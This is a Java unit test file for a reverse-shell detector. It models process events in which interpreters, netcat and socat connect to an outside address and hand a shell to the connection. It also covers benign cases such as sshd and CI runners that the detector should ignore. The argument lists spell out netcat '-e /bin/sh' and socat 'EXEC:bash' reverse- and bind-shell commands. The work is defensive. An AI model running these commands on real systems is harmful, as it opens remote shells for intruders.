package io.hivesec.detectors.shell;

import static io.hivesec.testkit.HiveAssertions.assertThatFindings;
import static org.assertj.core.api.Assertions.assertThat;

import io.hivesec.alert.Finding;
import io.hivesec.event.Event;
import io.hivesec.spi.Detector;
import io.hivesec.testkit.Detecting;
import io.hivesec.testkit.DetectorContract;
import io.hivesec.testkit.Scene;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;

final class SpawnedShellDetectorTest implements DetectorContract {
    private static final String OUTSIDE = "198.51.100.7";
    private final Scene scene = Scene.in("web");

    @Override
    public Detector detector() {
        return new SpawnedShellDetector();
    }

    @Override
    public List<Event> incident() {
        Scene incident = Scene.in("incident");
        javaWithPipes(incident).starts("/bin/sh", "/bin/sh");
        return incident.events();
    }

    private static Scene.Actor javaWithPipes(Scene scene) {
        Scene.Actor java = scene.starts("/usr/bin/java", "java", "Main")
                .connects(9, OUTSIDE, 4444)
                .pipes(10, 11)
                .pipes(12, 13);
        return java.forks().duplicates(10, 0).duplicates(13, 1);
    }

    private List<Finding> found() {
        return Detecting.findings(detector(), scene);
    }

    @Test
    void inspect_jvmHoldsTheShellsPipes_findsIt() {
        javaWithPipes(scene).executes("/bin/sh", "/bin/sh");
        assertThatFindings(found())
                .show("reverse-shell.process-relay", "mechanism", "pipes held by the shell's starter");
        assertThat(found().get(0).subject().process().name()).isEqualTo("java");
    }

    @Test
    void inspect_shellFirstConnectionThen_findsIt() {
        Scene.Actor node =
                scene.starts("/usr/bin/node", "node", "x.js").pipes(10, 11).pipes(12, 13);
        node.forks().duplicates(10, 0).duplicates(13, 1).executes("/bin/sh", "/bin/sh");
        node.connects(14, OUTSIDE, 4444);
        assertThatFindings(found()).show("reverse-shell.process-relay");
    }

    @Test
    void inspect_interactiveShellUnderInterpreterThatConnects_needsNoDescriptors() {
        Scene.Actor ruby = scene.starts("/usr/bin/ruby3.1", "ruby", "x.rb").connects(-1, OUTSIDE, 4444);
        ruby.starts("/bin/sh", "sh", "-c", "/bin/sh -i").starts("/bin/sh", "/bin/sh", "-i");
        assertThatFindings(found()).show("reverse-shell.process-relay");
    }

    @Test
    void inspect_pseudoTerminal_isNamed() {
        Scene.Actor python = scene.starts("/usr/bin/python3", "python3", "x.py").connects(3, OUTSIDE, 4444);
        python.opens("/dev/ptmx").starts("/bin/bash", "/bin/bash");
        assertThatFindings(found()).show("reverse-shell.process-relay", "mechanism", "a pseudo-terminal");
    }

    @Test
    void inspect_programHiddenAmongTheSystemsWithATerminal_needsNoArguments() {
        Scene.Actor agent =
                scene.starts("/usr/lib/.a/agent").connects(3, OUTSIDE, 443).opens("/dev/ptmx");
        agent.forks().opens("/dev/pts/3").duplicates(6, 0).executes("/bin/bash");
        assertThatFindings(found()).show("reverse-shell.process-relay", "mechanism", "a pseudo-terminal");
    }

    @Test
    void inspect_programHiddenAmongTheSystemsWithPipes_findsIt() {
        Scene.Actor agent = scene.starts("/opt/.cache/upd")
                .connects(3, OUTSIDE, 443)
                .pipes(4, 5)
                .pipes(6, 7);
        agent.forks().duplicates(4, 0).duplicates(7, 1).executes("/bin/sh");
        assertThatFindings(found()).show("reverse-shell.process-relay");
    }

    @Test
    void inspect_programAmongSomebodysSettings_findsIt() {
        Scene.Actor agent = scene.starts("/home/ann/.config/dconf/dconfd", "dconfd")
                .connects(3, OUTSIDE, 443)
                .opens("/dev/ptmx");
        agent.starts("/bin/bash", "/bin/bash", "-i");
        assertThatFindings(found()).show("reverse-shell.process-relay");
    }

    @Test
    void inspect_programOfAnEditorsOwnFolderInAHome_isQuiet() {
        Scene.Actor editor = scene.starts("/home/ann/.local/share/editor/bin/editor", "editor")
                .connects(3, OUTSIDE, 443)
                .opens("/dev/ptmx");
        editor.starts("/bin/bash", "/bin/bash", "-i");
        assertThatFindings(found()).areNone();
    }

    @Test
    void inspect_installedProgramWithATerminalAndNoArguments_isQuiet() {
        Scene.Actor editor = scene.starts("/usr/share/editor/editor")
                .connects(3, OUTSIDE, 443)
                .opens("/dev/ptmx");
        editor.forks().opens("/dev/pts/3").duplicates(6, 0).executes("/bin/bash");
        assertThatFindings(found()).areNone();
    }

    @Test
    void inspect_shellUnderSocat_findsIt() {
        scene.starts("/usr/bin/socat", "socat", "TCP:x:1", "EXEC:bash -li,pty")
                .connects(5, OUTSIDE, 1)
                .starts("/bin/bash", "bash", "-li");
        assertThatFindings(found()).show("reverse-shell.utility-shell");
    }

    @Test
    void inspect_netcatBecomesShell_findsItWithoutDescriptors() {
        scene.starts("/bin/nc", "nc", OUTSIDE, "1", "-e", "/bin/sh")
                .connects(-1, OUTSIDE, 1)
                .executes("/bin/sh", "sh");
        assertThatFindings(found()).show("reverse-shell.utility-shell");
    }

    @Test
    void inspect_droppedProgramWithConnection_findsIt() {
        scene.starts("/tmp/.x", "x").connects(-1, OUTSIDE, 1).starts("/bin/sh", "sh", "-i");
        assertThatFindings(found()).show("reverse-shell.process-relay");
    }

    @Test
    void inspect_acceptedBySocat_isBindShell() {
        scene.starts("/usr/bin/socat", "socat", "TCP-LISTEN:1", "EXEC:sh")
                .listens(4, 1)
                .accepts(5, OUTSIDE, 5)
                .starts("/bin/sh", "sh");
        assertThatFindings(found()).show("reverse-shell.bind");
    }

    @Test
    void inspect_shellRunsOneCommand_isQuiet() {
        javaWithPipes(scene).executes("/bin/sh", "sh", "-c", "git rev-parse HEAD");
        assertThatFindings(found()).areNone();
    }

    @Test
    void inspect_shellRunsScript_isQuiet() {
        scene.starts("/usr/bin/socat", "socat", "TCP-LISTEN:80,fork", "EXEC:handler.sh")
                .accepts(5, OUTSIDE, 5)
                .starts("/bin/bash", "bash", "/srv/handler.sh");
        assertThatFindings(found()).areNone();
    }

    @Test
    void inspect_sessionShell_isQuiet() {
        scene.starts("/usr/sbin/sshd", "sshd")
                .accepts(4, OUTSIDE, 50000)
                .forks()
                .opens("/dev/ptmx")
                .starts("/bin/bash", "-bash");
        assertThatFindings(found()).areNone();
    }

    @Test
    void inspect_shellOfContainerRuntime_isQuiet() {
        scene.starts("/usr/bin/containerd-shim-runc-v2", "containerd-shim-runc-v2")
                .connects(4, OUTSIDE, 443)
                .starts("/bin/sh", "sh");
        assertThatFindings(found()).areNone();
    }

    @Test
    void inspect_jobRunnerPipesScriptIntoShell_isQuiet() {
        Scene.Actor runner =
                scene.starts("/usr/bin/gitlab-runner", "gitlab-runner", "run").connects(9, OUTSIDE, 443);
        runner.pipes(10, 11).pipes(12, 13);
        runner.forks().duplicates(10, 0).duplicates(13, 1).executes("/bin/bash", "bash", "--login");
        assertThatFindings(found()).areNone();
    }

    @Test
    void inspect_databaseClientLongBefore_isQuiet() {
        Scene.Actor python =
                scene.starts("/usr/bin/python3", "python3", "manage.py").connects(3, "10.0.0.5", 5432);
        scene.later(Duration.ofMinutes(2));
        python.starts("/bin/bash", "bash");
        assertThatFindings(found()).areNone();
    }

    @Test
    void inspect_loopbackConnectionWithoutPipes_isQuiet() {
        scene.starts("/usr/bin/python3", "python3", "kernel.py")
                .connects(3, "127.0.0.1", 5555)
                .starts("/bin/bash", "bash", "-i");
        assertThatFindings(found()).areNone();
    }

    @Test
    void inspect_interpreterWithoutConnection_isQuiet() {
        scene.starts("/usr/bin/python3", "python3", "x.py").starts("/bin/bash", "bash", "-i");
        assertThatFindings(found()).areNone();
    }

    private List<Finding> terminalOf(Scene where, String program) {
        Scene.Actor editor = where.starts(program, "editor").connects(40, OUTSIDE, 443);
        editor.opens("/dev/ptmx").starts("/bin/bash", "bash", "--init-file", "x");
        return Detecting.findings(detector(), where);
    }

    @Test
    void inspect_terminalOfAnApplicationInOneFile_isQuietOnAMachine() {
        assertThatFindings(terminalOf(Scene.onHost(), "/tmp/.mount_editor/editor"))
                .areNone();
        assertThatFindings(terminalOf(Scene.onHost(), "/tmp/editor")).show("reverse-shell.process-relay");
        assertThatFindings(terminalOf(Scene.in("web"), "/tmp/.mount_editor/editor"))
                .show("reverse-shell.process-relay");
    }

    @Test
    void inspect_terminalOfAProgramThatOnlyInheritedAConnection_isFoundWhereItExecutedNothingSince() {
        Scene.Actor server =
                scene.starts("/home/dev/.ide/node", "node", "main.js").connects(31, OUTSIDE, 443);
        server.starts("/usr/bin/node", "node", "pty-host").opens("/dev/ptmx").starts("/bin/bash", "bash", "-i");
        assertThatFindings(found()).areNone();
        server.forks().opens("/dev/ptmx").starts("/bin/bash", "bash", "-i");
        assertThatFindings(found()).show("reverse-shell.process-relay");
    }

    @Test
    void inspect_testOfAServerThatCallsItself_isQuiet() {
        Scene.Actor test = scene.starts("/usr/bin/python3", "python3", "t.py")
                .listens(3, 8931)
                .connects(4, "127.0.0.1", 8931)
                .accepts(5, "127.0.0.1", 40000)
                .pipes(10, 11)
                .pipes(12, 13);
        test.forks().duplicates(10, 0).duplicates(13, 1).executes("/bin/sh", "/bin/sh");
        assertThatFindings(found()).areNone();
    }
}
